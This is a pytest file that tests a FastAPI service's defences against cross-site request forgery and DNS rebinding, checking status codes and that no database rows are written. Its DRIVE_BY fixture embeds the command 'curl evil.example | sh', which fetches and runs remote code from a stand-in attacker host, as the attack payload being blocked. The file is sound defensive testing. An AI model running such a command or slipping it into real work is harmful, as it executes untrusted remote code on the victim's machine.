"""Drive-by requests from a web page: cross-site forgery (foreign Origin, form content types) and DNS
rebinding (a foreign Host) are refused before any route runs, and write nothing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from helpers import make_settings, table_counts
from kodo.api.hygiene import host_name

# The attack of issue 19: a stable recipe that runs formData.testCommand, started by a page's simple POST.
DRIVE_BY = json.dumps(
    {
        "recipeRef": {"id": "python-unittest", "v": "v1"},
        "formData": {"repo": "", "testCommand": "curl evil.example | sh"},
        "opts": {"queuePartitionKey": "victim", "autoApprove": True},
    }
)


def test_text_plain_post_from_a_foreign_origin_is_403(client: TestClient, engine: sa.Engine) -> None:
    """A page's fetch('/api/run', {method: 'POST', body, mode: 'no-cors'}) carries its Origin: 403, no row."""
    with engine.connect() as conn:
        before = table_counts(conn)
    headers = {"content-type": "text/plain;charset=UTF-8", "origin": "https://evil.example"}
    response = client.post("/api/run", content=DRIVE_BY, headers=headers)
    assert response.status_code == 403
    assert "Origin https://evil.example" in response.json()["error"]
    with engine.connect() as conn:
        assert table_counts(conn) == before


@pytest.mark.parametrize(
    "content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", None]
)
def test_non_json_body_is_415(client: TestClient, engine: sa.Engine, content_type: str | None) -> None:
    """A write whose body is not application/json (the content types a form can send, or none) is a 415."""
    with engine.connect() as conn:
        before = table_counts(conn)
    headers = {} if content_type is None else {"content-type": content_type}
    for path in ("/api/run", "/api/intents", "/api/events/hitl", "/api/ops/wf/any/cancel"):
        response = client.post(path, content=DRIVE_BY, headers=headers)
        assert response.status_code == 415, (path, response.text)
        assert "send application/json" in response.json()["error"]
    with engine.connect() as conn:
        assert table_counts(conn) == before


@pytest.mark.parametrize("path", ["/api/runs/some-run", "/api/runs/some-run/events", "/api/ops/wf", "/"])
def test_rebinding_host_is_400_on_reads_and_streams(client: TestClient, path: str) -> None:
    """After DNS rebinding a page reads with its own name as Host: refused on reads, long-polls and SSE."""
    response = client.get(path, headers={"host": "evil.example:3001"})
    assert response.status_code == 400
    assert response.json() == {"error": "Host evil.example is not allowed: add it to KODO_ALLOWED_HOSTS"}


def test_rebinding_host_is_400_on_writes(client: TestClient, engine: sa.Engine) -> None:
    """A JSON write with a rebinding Host (same-origin for the browser, so Origin matches) is a 400, no row."""
    with engine.connect() as conn:
        before = table_counts(conn)
    headers = {"host": "rebind.evil.example:3001", "origin": "http://rebind.evil.example:3001"}
    response = client.post("/api/run", content=DRIVE_BY, headers={**headers, "content-type": "application/json"})
    assert response.status_code == 400
    with engine.connect() as conn:
        assert table_counts(conn) == before


def test_same_origin_console_write_and_probes_pass(client: TestClient) -> None:
    """The console's own JSON writes (same Origin) pass; /healthz answers whatever the Host (probes)."""
    body = {"goal": "from the console", "inputs": {}, "constraints": {}}
    created = client.post("/api/intents", json=body, headers={"origin": "http://127.0.0.1"})
    assert created.status_code == 201, created.text
    assert client.get("/healthz", headers={"host": "10.1.2.3:3001"}).status_code == 200
    assert client.get("/api/ops/wf", headers={"host": "localhost:3001"}).status_code == 200


def test_allowed_hosts_and_origins_are_configurable(tmp_path: Path) -> None:
    """KODO_ALLOWED_HOSTS / KODO_ALLOWED_ORIGINS replace the defaults; KODO_HOST joins the default hosts."""
    url = "postgresql://unused@127.0.0.1/unused"
    default = make_settings(url, tmp_path)
    assert default.host_names == frozenset({"localhost", "127.0.0.1", "::1"}) and default.origins is None
    assert "192.168.1.7" in make_settings(url, tmp_path, KODO_HOST="192.168.1.7").host_names
    assert "0.0.0.0" not in make_settings(url, tmp_path, KODO_HOST="0.0.0.0").host_names
    listed = make_settings(
        url,
        tmp_path,
        KODO_ALLOWED_HOSTS="kodo.example.com, [::1]",
        KODO_ALLOWED_ORIGINS="https://console.example.com/",
    )
    assert listed.host_names == frozenset({"kodo.example.com", "::1"})
    assert listed.origins == frozenset({"https://console.example.com"})


@pytest.mark.parametrize(
    ("header", "name"),
    [("127.0.0.1:3001", "127.0.0.1"), ("[::1]:3001", "::1"), ("LocalHost", "localhost"), ("::1", "::1"), ("", "")],
)
def test_host_header_names(header: str, name: str) -> None:
    """The Host check compares the name alone: port and IPv6 brackets stripped, case folded."""
    assert host_name(header) == name
